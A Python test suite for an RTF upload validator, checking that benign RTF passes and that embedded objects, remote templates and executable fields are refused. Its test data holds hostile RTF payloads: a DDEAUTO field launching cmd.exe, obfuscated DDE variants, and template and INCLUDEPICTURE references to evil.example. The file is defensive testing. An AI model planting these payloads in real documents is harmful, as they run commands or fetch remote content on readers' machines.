from __future__ import annotations

import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storage import rtf
from storage.media import RTF, FileCode, FileRefused, media_type_of
from tests.storage import documents


def _document(body: bytes) -> bytes:
    return rb"{\rtf1\ansi\ansicpg1251\deff0{\fonttbl{\f0 Times;}}\pard " + body + rb"\par}"


def _field(instruction: bytes) -> bytes:
    return rb"{\field{\*\fldinst " + instruction + rb"}{\fldrslt 1}}"


def _type(content: bytes) -> str:
    return media_type_of(io.BytesIO(content), "заявление.rtf")


@pytest.mark.parametrize(
    "body",
    [
        rb"\'cf\'f0\'ee\'f8\'f3 \u1055? \b object\b0  and template",
        rb"{\*\template C:\\Users\\oe\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm}",
        rb"{\*\template Normal.dotm}",
        _field(rb'{\rtlch\fcs1 \af0 HYPERLINK "https://example.org/a" }'),
        _field(rb"  PAGE  \\* MERGEFORMAT "),
        _field(rb'TOC \\o "1-3" \\h'),
        _field(rb"{\insrsid1 }{\insrsid2 NUMPAGES}"),
        _field(b""),
        _field(rb"= 2 + 2"),
        rb"{\pict\pngblip\bin4 \0\1{}}",
    ],
)
def test_text_with_pictures_links_and_page_numbers_is_taken(body: bytes) -> None:
    assert _type(_document(body)) == RTF


OBJECTS = [
    rb"{\object\objemb{\*\objclass Package}{\*\objdata 0105}}",
    rb"{\*\objdata 0105000002}",
    rb"{\OBJECT\objupdate}",
    rb"{\pict\bin9 \{\*\objdata 01}",
    rb"{\*\mailmerge{\*\mmconnectstr x}}",
]
TEMPLATES = [
    rb"{\*\template http://evil.example/a.dotm}",
    rb"{\*\template \\\\evil.example\\a.dotm}",
    rb"{\*\template file:///c:/a.dotm}",
    rb"{\*\template {\f0 h}\'74\'74\u112?://evil.example/a}",
    rb"{\*\template a.dotm",
]
FIELDS = [
    _field(rb'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    _field(rb'{\b D}{\i DE} "cmd"'),
    _field(rb"\'44\'44\'45 cmd"),
    _field(rb"\u68?\u68?\u69? cmd"),
    _field(b"D\r\nDE cmd"),
    _field(_field(b"QUOTE 68 68 69") + b"AUTO cmd"),
    _field(_field(b"SYMBOL 68") + b"DE cmd"),
    _field(b"QUOTE 68"),
    _field(rb'INCLUDEPICTURE "http://evil.example/a.png" \\d'),
    _field(rb'includetext "\\\\evil\\a"'),
    _field(b"LINK Excel.Sheet"),
    _field(b"EMBED Package"),
    _field(b"MACROBUTTON x y"),
    _field(rb'"DDE" cmd'),
    _field(rb"PAGE\bin3 }}}DDE"),
    rb"{\field{\*\fldinst PAGE",
]


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        *((body, "объекты") for body in OBJECTS),
        *((body, "шаблон") for body in TEMPLATES),
        *((body, "поля") for body in FIELDS),
    ],
)
def test_what_runs_or_fetches_is_refused_with_its_reason(body: bytes, reason: str) -> None:
    content = _document(body) if body.count(b"}") == body.count(b"{") else _document(b"")[:-1] + body

    with pytest.raises(FileRefused) as refusal:
        _type(content)

    assert refusal.value.code is FileCode.TYPE_NOT_ALLOWED
    assert reason in refusal.value.detail


@pytest.mark.parametrize("body", [OBJECTS[0], TEMPLATES[0], FIELDS[0]])
@pytest.mark.parametrize("before", [rtf._PIECE, rtf._PIECE - rtf._LONGEST, 3 * rtf._PIECE])
def test_what_runs_is_found_on_both_sides_of_the_pieces_that_are_read(body: bytes, before: int) -> None:
    for shift in range(0, len(body) + 60, 7):
        with pytest.raises(FileRefused):
            _type(_document(b"x" * (before - shift) + body + b"x" * rtf._LONGEST))


@given(st.binary(max_size=300), st.sampled_from([b"", *OBJECTS, *FIELDS]), st.binary(max_size=300))
def test_garbage_is_refused_or_taken_and_never_hides_an_object(before: bytes, body: bytes, after: bytes) -> None:
    content = documents.RTF[:-1] + before + body + after

    try:
        taken = _type(content) == RTF
    except FileRefused:
        taken = False

    assert not (taken and body)
